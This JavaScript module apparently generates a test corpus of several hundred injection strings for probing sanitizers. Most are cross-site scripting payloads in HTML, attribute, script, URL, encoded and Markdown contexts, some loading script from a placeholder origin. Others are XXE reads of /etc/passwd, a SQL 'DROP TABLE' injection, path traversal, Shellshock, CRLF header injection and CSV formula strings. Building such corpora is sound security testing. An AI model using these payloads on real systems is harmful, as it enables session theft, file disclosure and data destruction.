// What strangers type into fields to get markup or script onto a page: a few hundred texts, made by combining the known
// classes. Each calls pwn(), or asks "elsewhere" for something, if it ever comes to life. Written from the grammars of
// HTML, URLs, JavaScript, CommonMark, XML and Mustache.

const call = 'pwn(1)';

// Elements that run something as soon as they are parsed, or at the first opportunity.
const elements = (e) => [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT >`, `<script src=${e}/s></script>`, `<script\n>${call}</script\n>`, `<script/x>${call}</script>`,
  `<img src=x onerror=${call}>`, `<img/src=x/onerror=${call}>`, `<IMG SRC=x OnErRoR=${call}>`, `<img src=${e}/i>`, `<img srcset=${e}/i2>`, `<img src=x onerror\n=\n${call}>`,
  `<svg onload=${call}>`, `<svg/onload=${call}//`, `<svg><script>${call}</script>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><a href=javascript:${call}><text y=9>x`,
  `<svg><use href=data:image/svg+xml,x#x>`, `<math><mtext><style><img src=x onerror=${call}>`, `<math href=javascript:${call}>x`,
  `<body onload=${call}>`, `<body onpageshow=${call}>`, `<details open ontoggle=${call}>x`, `<input autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`,
  `<textarea autofocus onfocus=${call}>`, `<video src=x onerror=${call}>`, `<video><source onerror=${call}>`, `<audio src=x onerror=${call}>`, `<marquee onstart=${call}>x`,
  `<iframe src=javascript:parent.${call}>`, `<iframe srcdoc="<script>parent.${call}</script>">`, `<iframe src=${e}/f>`, `<object data=javascript:${call}>`, `<object data=${e}/o>`,
  `<embed src=${e}/e>`, `<link rel=stylesheet href=${e}/l>`, `<link rel=preload as=image href=${e}/pl>`, `<style>@import"${e}/st";</style>`, `<style onload=${call}></style>`,
  `<base href=${e}/>`, `<meta http-equiv=refresh content=0;url=${e}/m>`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<form action=${e}/a><button autofocus>x`, `<button formaction=javascript:${call}>x`, `<isindex type=image src=1 onerror=${call}>`, `<p style=background:url(${e}/p)>`,
  `<p onanimationstart=${call} style=animation:x>`, `<dialog open onclose=${call}>`, `<template><img src=x onerror=${call}></template>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<xss id=x tabindex=1 onfocus=${call}></xss>`, `<table background=${e}/t>`, `<bgsound src=${e}/b>`, `<x contenteditable onblur=${call} autofocus>`, `<<script>${call}//<</script>`, `<scr<script>ipt>${call}</scr</script>ipt>`,
];

// What ends the place where a text stands, before an element begins.
const exits = ['">', "'>", '`>', '>', '</title>', '</textarea>', '</style>', '</script>', '--><!-- ', ']]>', '"/>', '</option></datalist>', '</noscript>', '</pre></code>', '"]})', '&quot;>', '\\">', '</time>'];
const shortElements = [`<img src=x onerror=${call}>`, `<svg onload=${call}>`, `<script>${call}</script>`];

// Inside a quoted attribute, or one without quotes.
const attributes = [
  `" onmouseover=${call} x="`, `' onmouseover=${call} x='`, `" autofocus onfocus=${call} "`, `' autofocus onfocus=${call} '`, `x onerror=${call}`, `" style="animation:x" onanimationend="${call}`,
  `"onload="${call}`, `" src=x onerror="${call}`, `\` onmouseover=${call} \``, `" srcdoc="<script>parent.${call}</script>`, `&#34; onmouseover=${call} x=&#34;`, `\u0022\u0020onerror=${call}`,
  `\t"\tonfocus=${call}\tautofocus`, `" formaction="javascript:${call}`, `" href="javascript:${call}`, `"><a href="javascript:${call}`,
];

// Inside a script: strings, templates, comments, JSON.
const scripts = [
  `';${call}//`, `";${call}//`, `'-${call}-'`, `"-${call}-"`, `\\';${call}//`, `\\";${call}//`, `\${${call}}`, `\`;${call}//`, `*/${call}/*`, `\u2028${call}\u2029`, `);${call};(`, `});${call};({`,
  `"}];${call};[{"`, `</script><script>${call}</script>`, `</ScRiPt ><img src=x onerror=${call}>`, `<!--<script>${call}`, `<!--</script><script>${call}</script>`, `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${call}\\x3e`, `"+${call}+"`, `constructor.constructor("${call}")()`, `__proto__`, `{"__proto__":{"x":1}}`, `]];${call};[[`, `//\n${call}`, `\\`, `"\\`,
];

// Addresses, as they stand in links, pictures and redirects.
export const addresses = (e) => [
  `javascript:${call}`, `JaVaScRiPt:${call}`, ` javascript:${call}`, `java\tscript:${call}`, `java\nscript:${call}`, `\u0001javascript:${call}`, `javascript&colon;${call}`, `&#106;avascript:${call}`,
  `javascript:/*--></title></style></textarea></script><svg onload=${call}>*/`, `javascript://%0a${call}`, `javascript:%70wn(1)`, `vbscript:${call}`, `data:text/html,<script>${call}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg onload=pwn(1)>', `view-source:${e}`, 'blob:x', 'about:blank', 'file:///etc/passwd', 'feed:javascript:pwn(1)', 'jar:javascript:x!/',
  `https://a.example/"onmouseover="${call}`, `https://a.example/'onmouseover='${call}`, `https://a.example/"><img src=x onerror=${call}>`, `https://a.example/<script>${call}</script>`, `https://a.example/\`onclick=${call}`,
  `https://javascript:${call}@a.example/`, `https://a.example/#"><svg onload=${call}>`, `https://a.example/?x=javascript:${call}`, `https:javascript:${call}`, `https://a.example\u2028${call}`, `//a.example/"><img src=x onerror=${call}>`,
];

// Written another way, in the hope that somebody decodes it once too often.
const encodings = [
  `&lt;script&gt;${call}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`, `&#60;img src=x onerror=${call}&#62;`, `&#x3c;img src=x onerror=${call}&#x3e;`, `&LT;script&GT;${call}`, `%3Cscript%3E${call}%3C/script%3E`,
  `%253Cscript%253E${call}`, `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`, `\u2039script\u203A${call}`, `\uFEFF<script>${call}</script>`, `\u202E<script>${call}</script>`,
  `\u200B<img src=x onerror=${call}>`, `<\u0300script>${call}</script>`, `<img src=x onerror=&#112;wn(1)>`, `<\u00ADscript>${call}</script>`, `\uD83D\uDE00<img src=x onerror=${call}>`, `%0d%0aSet-Cookie:pwn=1`, `%0d%0a%0d%0a<script>${call}</script>`,
  `\r\nSet-Cookie: pwn=1`, '\u001b]0;pwn\u0007', '=cmd|x!A1', '%00<script>pwn(1)</script>',
];

// Markdown and what makes links out of plain text.
const markdown = (e) => [
  `[a](javascript:${call})`, `[a](JAVASCRIPT:${call})`, `[a](<javascript:${call}>)`, `[a]( javascript:${call})`, `[a](java&#x73;cript:${call})`, `![a](javascript:${call})`, `![a](${e}/md)`, `![a](/i/x" onerror="${call})`,
  `![a" onerror="${call}](/i/x)`, `<javascript:${call}>`, `[a]: javascript:${call}\n[a]`, `[a](https://a.example "t\\" onmouseover=${call}")`, `[a](https://a.example 'x" onmouseover="${call}')`, `<https://a.example/"onmouseover="${call}>`,
  `[<img src=x onerror=${call}>](https://a.example)`, `[a](data:text/html,<script>${call}</script>)`, `[![a](${e}/md2)](javascript:${call})`, `\`<script>${call}</script>\``, `    <script>${call}</script>`, `\`\`\`"><svg onload=${call}>\nx\n\`\`\``,
  `#"><img src=x onerror=${call}>`, `@"><img src=x onerror=${call}>`, `#x"onmouseover="${call}`, `https://a.example/"><svg/onload=${call}>`, `http://[::1]"onmouseover=${call}`, `[a](/\\a.example)`, `[a](//a.example)`, `<div\n>\n<script>${call}</script>`,
  `<!-- --><script>${call}</script>`, `<![CDATA[<script>${call}</script>]]>`, `<?php ?><script>${call}</script>`, `[a](vbscript:${call})`, `[x](#" onclick="${call})`,
];

// Templates, XML, names of the document.
const others = (e) => [
  '{{csrf}}', '{{{csrf}}}', '{{&csrf}}', '{{#viewer}}x{{/viewer}}', '{{>csrf}}', '{{=<% %>=}}<%csrf%>', '{{! }}', '{{<layout}}', '${csrf}', '<%= csrf %>', '#{csrf}', '[[csrf]]', `{{constructor.constructor('${call}')()}}`,
  ']]><x/>', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;', '&a;', '&nbsp;&unknown;', `<?xml-stylesheet href="${e}/x"?>`, '<xi:include href="file:///etc/passwd"/>', `<x xmlns="http://www.w3.org/1999/xhtml" onload="${call}"/>`, '&#0;&#x1;&#xFFFE;',
  '<a id=pwn>', '<a id=piclog><a id=piclog name=x>', '<form id=document><input name=cookie>', '<img name=getElementById>', '<form name=body>', '<input name=csrf value=x>', '<a id=location href=javascript:x>',
  `x:expression(${call})`, `}*{background:url(${e}/css)}`, `</style><style>*{background:url(${e}/css2)}`, '\'; DROP TABLE accounts; --', '../../../../etc/passwd', '%s%n%x', '() { :; }; x',
];

// All of them, each once. elsewhere: an origin that must never be asked.
export function payloads(elsewhere) {
  return [...new Set([
    ...elements(elsewhere), ...exits.flatMap((exit) => shortElements.map((element) => exit + element)), ...attributes, ...scripts, ...addresses(elsewhere), ...encodings, ...markdown(elsewhere), ...others(elsewhere),
  ])];
}

// Fills fields of so many characters with as many texts as fit; those that fit nowhere are left out.
export function pack(texts, characters, separator = ' ') {
  const packed = [];
  for (const text of texts) {
    if ([...text].length > characters) continue;
    const last = packed.length - 1;
    if (last >= 0 && [...packed[last] + separator + text].length <= characters) packed[last] += separator + text;
    else packed.push(text);
  }
  return packed;
}
